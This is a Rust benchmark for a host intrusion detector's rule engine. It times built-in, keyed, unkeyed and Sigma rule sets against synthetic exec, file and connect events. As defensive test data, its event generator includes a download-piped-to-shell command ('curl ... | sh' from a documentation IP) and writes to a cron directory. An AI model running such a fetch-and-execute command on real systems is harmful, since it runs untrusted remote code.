//! The rule engine alone: 100 user rules against 1M synthetic events on one
//! thread, as the detector stage runs them. Reports events per second per
//! core (events divided by this thread's CPU time) for three set-ups, run
//! interleaved round by round so machine noise hits all of them alike:
//!
//! - `builtin`: the detector with the built-in detections only;
//! - `+ 100 keyed rules`: plus 100 user rules that each have an exact test
//!   the hash index can key on (as most real rules do);
//! - `+ 100 unkeyed rules`: plus 100 rules that lead with globs, prefixes,
//!   regexes and `any` groups, the worst case;
//! - `+ 200 Sigma rules`: plus 200 Sigma rules (the sample ones but the
//!   interpreter-connection one, and synthetic ones shaped like the
//!   public Linux Sigma rules: mostly
//!   `Image|endswith` with `CommandLine|contains`, some command-line-only,
//!   file and network rules), compiled by the Sigma front end;
//! - `match only`: `RuleSet::matches` alone for each rule set.
//!
//! The rules are the sample rules plus synthetic ones shaped like real
//! rules (names, globs, prefixes, regexes, ports, CIDRs, ancestry); the
//! events are execs with parents and ancestry, file opens and connects, of
//! which about 1 in 100 raises an alert.
//!
//! Run: `cargo bench --bench rules [-- --events N --rounds R]`.

use std::fmt::Write as _;
use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use rand_guard::config::{AlertsConfig, Config};
use rand_guard::detect::Detector;
use rand_guard::detect::rules::fields::Scratch;
use rand_guard::detect::rules::{RuleSet, parse_file, sigma};
use rand_guard::model::event::{
    Body, Creds, Event, ExecBody, FileBody, FileOp, FileTruncation, Image, NetBody, NetFamily,
    NetOp, NetTruncation,
};
use rand_guard::model::proctable::{Origin, Process};

const SAMPLES: &str = include_str!("../rules/sample-rules.toml");
const SIGMA_SAMPLES: &str = include_str!("../rules/sample-sigma.yml");
/// Distinct events; the run cycles over them.
const DISTINCT: usize = 10_000;

fn thread_cpu() -> Duration {
    let t = nix::time::clock_gettime(nix::time::ClockId::CLOCK_THREAD_CPUTIME_ID).unwrap();
    Duration::new(t.tv_sec() as u64, t.tv_nsec() as u32)
}

/// How the synthetic rules are shaped.
#[derive(Clone, Copy, PartialEq)]
enum Shape {
    /// Each rule has an exact test that must hold (a process name, a file
    /// name, a port, a parent): found by the hash index, as most real
    /// rules are (Sigma's `Image|endswith` is `process.name` here).
    Keyed,
    /// Each rule leads with a glob, prefix, regex or `any`: evaluated one
    /// by one for every event of its actions — the worst case.
    Unkeyed,
}

/// `n` synthetic rules of `shape`, six templates in turn.
fn synthetic_rules(n: usize, shape: Shape) -> String {
    let mut t = String::new();
    for i in 0..n {
        let _ = write!(
            t,
            "[[rules]]\nid = \"bench-{i}\"\nname = \"Bench {i}\"\nseverity = \"low\"\n"
        );
        let key = |t: &mut String, field: &str, value: &str| {
            if shape == Shape::Keyed {
                let _ = write!(t, "[[rules.all]]\nfield = \"{field}\"\nequals = {value}\n");
            }
        };
        match i % 6 {
            0 => {
                let _ = write!(
                    t,
                    "events = [\"exec\"]\n[[rules.all]]\nfield = \"process.name\"\nin = [\"tool{i}\", \"helper{i}\", \"agent{i}\"]\n\
                     [[rules.all]]\nfield = \"process.command_line\"\ncontains = \"marker-{i}-\"\n"
                );
            }
            1 => {
                let _ = write!(
                    t,
                    "events = [\"exec\"]\n[[rules.all]]\nfield = \"process.executable\"\nglob = \"/opt/app{i}/**\"\n\
                     [[rules.all]]\nfield = \"process.ancestors.name\"\nequals = \"svc{i}\"\n"
                );
                key(&mut t, "process.name", &format!("\"app{i}\""));
            }
            2 => {
                let _ = write!(
                    t,
                    "events = [\"open\", \"rename\"]\n[[rules.all]]\nfield = \"file.path\"\nprefix = \"/etc/app{i}/\"\n\
                     [rules.not]\nfield = \"process.name\"\nin = [\"dpkg\", \"app{i}d\"]\n"
                );
                key(&mut t, "file.name", &format!("\"app{i}.conf\""));
            }
            3 => {
                let _ = write!(
                    t,
                    "events = [\"file\"]\n[[rules.all]]\nfield = \"file.path\"\nregex = '^/var/lib/app{i}/[^/]+\\.conf$'\n"
                );
                key(&mut t, "process.name", &format!("\"writer{i}\""));
            }
            4 => {
                let _ = write!(
                    t,
                    "events = [\"connect\"]\n[[rules.all]]\nfield = \"destination.port\"\nin = [{}, {}]\n\
                     [[rules.all]]\nfield = \"destination.ip\"\ncidr = [\"10.{}.0.0/16\"]\n",
                    10_000 + i,
                    20_000 + i,
                    i % 250
                );
            }
            _ => {
                let _ = write!(
                    t,
                    "events = [\"exec\"]\n[[rules.any]]\nfield = \"process.args\"\nprefix = \"--app{i}=\"\n\
                     [[rules.any]]\nfield = \"process.parent.name\"\nregex = '^worker-{i}-[0-9]+$'\n"
                );
                if shape == Shape::Keyed {
                    let _ = write!(
                        t,
                        "[[rules.all]]\nfield = \"process.parent.name\"\nequals = \"sshd{i}\"\n"
                    );
                }
            }
        }
    }
    t
}

fn rules(total: usize, shape: Shape) -> RuleSet {
    let mut all = parse_file(Path::new("sample-rules.toml"), SAMPLES).unwrap();
    let n = total.saturating_sub(all.len());
    let text = synthetic_rules(n, shape);
    all.extend(
        parse_file(Path::new("bench.toml"), &text).unwrap_or_else(|e| panic!("{e:?}\n{text}")),
    );
    assert_eq!(all.len(), total);
    RuleSet::from_rules(all)
}

/// `n` Sigma rules: the sample ones, then synthetic ones in ten shapes.
/// Eight in ten have a value the index keys on (an `Image|endswith`
/// file name, a `ParentImage|endswith` name, a `TargetFilename|endswith`
/// name, a port), as most public Linux Sigma rules do; the rest are
/// command-line substrings (1 rule in 20 a regex) and path prefixes,
/// tried for every event of their log source.
fn sigma_rules(n: usize) -> RuleSet {
    let mut samples = sigma::parse_file(Path::new("sample-sigma.yml"), SIGMA_SAMPLES).unwrap();
    // The interpreter-connection sample fires on most of the corpus's
    // python connects (ports 444-449): left out, so that the Sigma set
    // raises about as many alerts as the TOML sets and the numbers
    // compare the engines, not the alert writing.
    samples
        .rules
        .retain(|r| !r.meta.name.starts_with("Script interpreter"));
    let mut t = String::new();
    for i in 0..n - samples.rules.len() {
        let (category, detection) = match i % 10 {
            0..=3 => (
                "process_creation",
                format!(
                    "    selection:\n        Image|endswith: ['/tool{i}', '/helper{i}']\n\
                     \x20       CommandLine|contains|all: [' --x{i}', ' -y']\n\
                     \x20   filter:\n        ParentImage|endswith: '/cron'\n\
                     \x20   condition: selection and not filter\n"
                ),
            ),
            4 => (
                "process_creation",
                format!(
                    "    selection:\n        ParentImage|endswith: '/svc{i}'\n\
                     \x20       Image|endswith: ['/sh', '/bash', '/dash']\n    condition: selection\n"
                ),
            ),
            // Command-line-only rules; every other one with a regex
            // (about 1 rule in 20 has `re`, as in the public Linux rules).
            5 => (
                "process_creation",
                format!(
                    "    selection_a:\n        CommandLine|contains: 'marker-{i}-'\n\
                     \x20   selection_b:\n        CommandLine{}\n\
                     \x20   condition: 1 of selection_*\n",
                    if i % 20 == 5 {
                        format!("|re: '--app{i}=[0-9]+'")
                    } else {
                        format!("|contains|all: ['--app{i}=', ' --verbose']")
                    }
                ),
            ),
            6 => (
                "file_event",
                format!(
                    "    selection:\n        TargetFilename|startswith: '/etc/app{i}/'\n\
                     \x20   filter:\n        Image|endswith: ['/dpkg', '/rpm']\n\
                     \x20   condition: selection and not filter\n"
                ),
            ),
            7 => (
                "file_event",
                format!(
                    "    selection:\n        TargetFilename|endswith: '/app{i}.conf'\n    condition: selection\n"
                ),
            ),
            8 => (
                "network_connection",
                format!(
                    "    selection:\n        Initiated: 'true'\n        DestinationPort: [{}, {}]\n\
                     \x20   condition: selection\n",
                    10_000 + i,
                    20_000 + i
                ),
            ),
            _ => (
                "process_creation",
                format!(
                    "    selection:\n        Image|endswith: '/python3'\n\
                     \x20       CommandLine|contains: '/srv/job{i}_'\n    condition: selection\n"
                ),
            ),
        };
        let _ = write!(
            t,
            "---\ntitle: Bench {i}\nid: bench-sigma-{i}\nlevel: low\n\
             logsource:\n    product: linux\n    category: {category}\ndetection:\n{detection}"
        );
    }
    let f = sigma::parse_file(Path::new("bench.yml"), &t).unwrap_or_else(|e| panic!("{e}\n{t}"));
    assert!(f.skipped.is_empty(), "{:?}", f.skipped);
    let mut all = samples.rules;
    all.extend(f.rules);
    assert_eq!(all.len(), n);
    RuleSet::from_rules(all)
}

fn process(pid: u32, exe: &str, args: &[String], parent: Option<Arc<Process>>) -> Arc<Process> {
    let chain_len = parent.as_ref().map_or(0, |p| p.chain_len + 1);
    Arc::new(Process {
        pid,
        ppid: parent.as_ref().map_or(1, |p| p.pid),
        start_ns: u64::from(pid),
        start_exact: true,
        start_time_ns: 0,
        image: Arc::new(Image {
            executable: exe.into(),
            exe: exe.into(),
            name: exe.rsplit('/').next().unwrap().into(),
            args: args.to_vec(),
            env_vars: Vec::new(),
            working_directory: "/home/ann".into(),
            truncated: Default::default(),
            hash: Default::default(),
            file: None,
        }),
        creds: Some(Creds {
            uid: 1000,
            gid: 1000,
            euid: 1000,
            egid: 1000,
            login_uid: Some(1000),
            session_id: Some(3),
        }),
        cgroup_id: Some(42),
        cgroup: None,
        ns: None,
        parent,
        origin: Origin::Exec,
        chain_len,
        entity_id: Default::default(),
    })
}

/// Execs (with a 3-deep ancestry), file opens and connects; every 100th
/// event matches a rule.
fn events() -> Vec<Event> {
    let init = process(1, "/sbin/init", &["/sbin/init".into()], None);
    let sshd = process(500, "/usr/sbin/sshd", &["sshd: ann".into()], Some(init));
    let mut out = Vec::with_capacity(DISTINCT);
    for i in 0..DISTINCT as u32 {
        let pid = 10_000 + i;
        // One event in 100 is malicious: a download piped to a shell, or
        // a cron file written.
        let hit = i % 100 == 0 || i % 100 == 55;
        let shell = process(pid - 1, "/bin/bash", &["-bash".into()], Some(sshd.clone()));
        // Connects come from a Python job; shells only exec.
        let (exe, args): (&str, Vec<String>) = match if i % 10 >= 8 { 2 } else { i % 4 } {
            0 => (
                "/bin/sh",
                vec![
                    "sh".into(),
                    "-c".into(),
                    if hit {
                        "curl -s http://203.0.113.5/x | sh".into()
                    } else {
                        format!("make -C /home/ann/src/project{i} all && echo done-{i}")
                    },
                ],
            ),
            1 => (
                "/usr/bin/git",
                vec![
                    "git".into(),
                    "status".into(),
                    format!("--porcelain={}", i % 3),
                ],
            ),
            2 => (
                "/usr/bin/python3",
                vec!["python3".into(), format!("/srv/job{i}.py")],
            ),
            _ => ("/usr/bin/ls", vec!["ls".into(), "-la".into()]),
        };
        let p = process(pid, exe, &args, Some(shell));
        let body = match i % 10 {
            0..=4 => Body::Exec(ExecBody {
                image: p.image.clone(),
                ppid: p.ppid,
                start_ns: p.start_ns,
                parent_start_ns: 0,
                creds: p.creds.unwrap(),
                cgroup_id: 42,
                ns: rand_guard::model::event::Namespaces {
                    pid: 4026531836,
                    mnt: 4026531841,
                    net: 4026531840,
                    uts: 4026531838,
                },
                argc: args.len() as u32,
                stdio: Default::default(),
            }),
            5..=7 => Body::File(FileBody {
                op: FileOp::Open,
                syscall: "openat",
                path: if hit {
                    "/etc/cron.d/job".into()
                } else {
                    format!("/home/ann/src/project{i}/target/obj{}.o", i % 97)
                },
                original_path: None,
                target_path: None,
                result: 3,
                open_flags: 0o1101,
                mode: Some(0o644),
                owner: None,
                group: None,
                at_flags: 0,
                resolved: true,
                unfiltered: false,
                watched: None,
                xattr: None,
                truncated: FileTruncation::default(),
            }),
            _ => Body::Net(NetBody {
                stdio: None,
                op: NetOp::Connect,
                syscall: "connect",
                result: 0,
                in_progress: false,
                family: NetFamily::Inet,
                protocol: 6,
                sock_type: 1,
                local: Some("10.0.0.2:40000".parse().unwrap()),
                remote: Some(
                    format!("10.{}.3.4:{}", i % 250, 443 + i % 7)
                        .parse()
                        .unwrap(),
                ),
                unix_path: None,
                dns: None,
                truncated: NetTruncation::default(),
            }),
        };
        out.push(Event {
            seq: u64::from(i),
            time_ns: u64::from(i) * 1_000,
            ktime_ns: u64::from(i) * 1_000,
            pid,
            tid: pid,
            body,
            process: Some(p),
        });
    }
    out
}

fn detector(rules: RuleSet) -> Detector {
    let cfg = Config {
        // Rate limiting on, as in production, but never the bottleneck.
        alerts: AlertsConfig {
            burst: 10,
            per_minute: 60.0,
        },
        ..Config::default()
    };
    Detector::new(&cfg, "bench", rules, None).unwrap()
}

/// Events per CPU-second of running `n` events through `d`; alerts raised.
/// Each pass over the corpus moves event time on by a minute, so the rate
/// limiter refills as it would for a live stream of new processes.
fn run_detector(d: &mut Detector, evs: &mut [Event], n: usize) -> (f64, usize) {
    let mut alerts = Vec::with_capacity(16);
    let mut raised = 0;
    let mut left = n;
    let t0 = thread_cpu();
    while left > 0 {
        for ev in evs.iter_mut().take(left) {
            ev.ktime_ns += 60_000_000_000;
            d.detect(ev, &mut alerts);
            raised += alerts.len();
            alerts.clear();
        }
        left = left.saturating_sub(evs.len());
    }
    let cpu = (thread_cpu() - t0).as_secs_f64();
    (n as f64 / cpu, raised)
}

fn run_matches(set: &RuleSet, evs: &[Event], n: usize) -> (f64, usize) {
    let mut scratch = Scratch::default();
    let mut hits = Vec::with_capacity(16);
    let mut matched = 0;
    let t0 = thread_cpu();
    for ev in evs.iter().cycle().take(n) {
        set.matches(ev, &mut scratch, &mut hits);
        matched += hits.len();
        hits.clear();
    }
    let cpu = (thread_cpu() - t0).as_secs_f64();
    (n as f64 / cpu, matched)
}

fn median(mut v: Vec<f64>) -> f64 {
    v.sort_by(f64::total_cmp);
    v[v.len() / 2]
}

fn main() {
    let mut n = 1_000_000usize;
    let mut rounds = 5usize;
    let mut args = std::env::args().skip(1);
    while let Some(a) = args.next() {
        match a.as_str() {
            "--events" => {
                n = args
                    .next()
                    .and_then(|v| v.parse().ok())
                    .expect("--events N")
            }
            "--rounds" => {
                rounds = args
                    .next()
                    .and_then(|v| v.parse().ok())
                    .expect("--rounds R")
            }
            "--bench" => {}
            other => panic!("unknown argument {other:?}"),
        }
    }
    let mut evs = events();
    let keyed = rules(100, Shape::Keyed);
    let unkeyed = rules(100, Shape::Unkeyed);
    let sigma = sigma_rules(200);
    let mut setups = [
        ("builtin only", detector(RuleSet::empty())),
        ("+ 100 keyed rules", detector(rules(100, Shape::Keyed))),
        ("+ 100 unkeyed rules", detector(rules(100, Shape::Unkeyed))),
        ("+ 200 Sigma rules", detector(sigma_rules(200))),
    ];
    // Warm up caches and the rate limiter's buckets once.
    for (_, d) in &mut setups {
        run_detector(d, &mut evs, DISTINCT);
    }
    let mut eps = vec![Vec::new(); setups.len() + 3];
    let mut raised = vec![0; setups.len() + 3];
    for _ in 0..rounds {
        for (i, (_, d)) in setups.iter_mut().enumerate() {
            let (r, x) = run_detector(d, &mut evs, n);
            eps[i].push(r);
            raised[i] = x;
        }
        for (j, set) in [&keyed, &unkeyed, &sigma].into_iter().enumerate() {
            let (r, x) = run_matches(set, &evs, n);
            eps[setups.len() + j].push(r);
            raised[setups.len() + j] = x;
        }
    }
    let eps: Vec<f64> = eps.into_iter().map(median).collect();
    let names = [
        setups[0].0,
        setups[1].0,
        setups[2].0,
        setups[3].0,
        "match only, 100 keyed",
        "match only, 100 unkeyed",
        "match only, 200 Sigma",
    ];
    println!("rules bench: {n} events x {rounds} rounds, one thread, medians of events/s per core");
    for (i, name) in names.iter().enumerate() {
        let what = if i < setups.len() {
            "alerts"
        } else {
            "rule hits"
        };
        println!(
            "  {name:<24} {:>10.0} ev/s  {:>6.0} ns/event  ({} {what} per round)",
            eps[i],
            1e9 / eps[i],
            raised[i]
        );
    }
    for i in 1..setups.len() {
        println!(
            "  {} / builtin: {:.3}; the rules add {:.0} ns per event",
            names[i],
            eps[i] / eps[0],
            1e9 / eps[i] - 1e9 / eps[0]
        );
    }
    println!(
        "rules-result {{\"events\":{n},\"rounds\":{rounds},\"builtin_eps\":{:.0},\"keyed_eps\":{:.0},\"unkeyed_eps\":{:.0},\"sigma_eps\":{:.0},\"match_keyed_eps\":{:.0},\"match_unkeyed_eps\":{:.0},\"match_sigma_eps\":{:.0}}}",
        eps[0], eps[1], eps[2], eps[3], eps[4], eps[5], eps[6]
    );
}
